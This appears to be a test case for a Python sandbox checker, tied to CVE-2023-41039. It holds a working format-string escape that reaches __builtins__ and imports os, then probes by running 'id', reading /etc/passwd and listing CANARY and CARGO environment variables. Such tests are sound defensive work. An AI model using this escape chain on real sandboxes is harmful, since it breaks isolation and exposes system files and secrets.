# /// case
# technique = "format-strings"
# analysis = ["code-in-text", "format-field"]
# without_analysis = "contained"
# reference = "CVE-2023-41039"
# ///
# The check looks at `"text".format`; the method is taken from the class instead.
class Visible:
    def method(self):
        return 1

template = "{0.method.__func__.__globals__[__builtins__]}"
text = str.format(template, Visible()) + str.format_map("{v.__class__.__mro__}", {"v": Visible()})
import string
builtins, _ = string.Formatter().get_field("0.method.__func__.__globals__[__builtins__]", [Visible()], {})
found = (builtins if isinstance(builtins, dict) else vars(builtins))["__import__"]("os")

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
